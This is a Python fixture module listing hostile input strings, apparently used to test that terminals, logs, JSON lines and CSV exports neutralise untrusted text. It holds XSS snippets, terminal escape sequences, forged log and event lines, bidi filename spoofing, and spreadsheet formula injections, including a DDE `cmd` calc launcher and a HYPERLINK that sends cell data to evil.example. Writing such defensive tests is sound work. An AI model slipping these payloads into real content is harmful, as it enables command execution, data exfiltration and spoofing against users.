"""Text that people and models may send to move a terminal, forge a line, start a formula, or break a decoder."""

from __future__ import annotations

NASTIES: dict[str, str] = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "paste back": "\x1bP+q544e\x1b\\\x1b[6n",
    "8-bit escape": "\x9b31mred\x9b0m\x85next\x90x\x9c",
    "json line": 'x\n{"event":"rating","value":true,"source_id":"forged"}\ny',
    "log line": "x\r\n12:00:00  ok               default  forged\r\n",
    "carriage return": "harmless\rforged  ",
    "separators": "a\u2028forged\u2029forged\x0bforged\x0cforged\x1cforged\x1eforged",
    "right to left": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c",
    "zero width": "ad\u200bmin\u2060\ufeff",
    "null": "before\x00after",
    "backspace": "secret\b\b\b\b\b\bforged\x7f",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide formula": "＝1+1",  # noqa: RUF001
    "csv row": 'x",1\r\n"forged","row"\n=1+1,"',
    "quotes": '""\'`\\"\\',
    "sse": "x\n\nevent: done\ndata: {}\n\n",
    "tags": "\U000e0041\U000e0042 language tags",
    "wide": "世界" * 60,
    "combining": "a" + "\u0301" * 100,
}
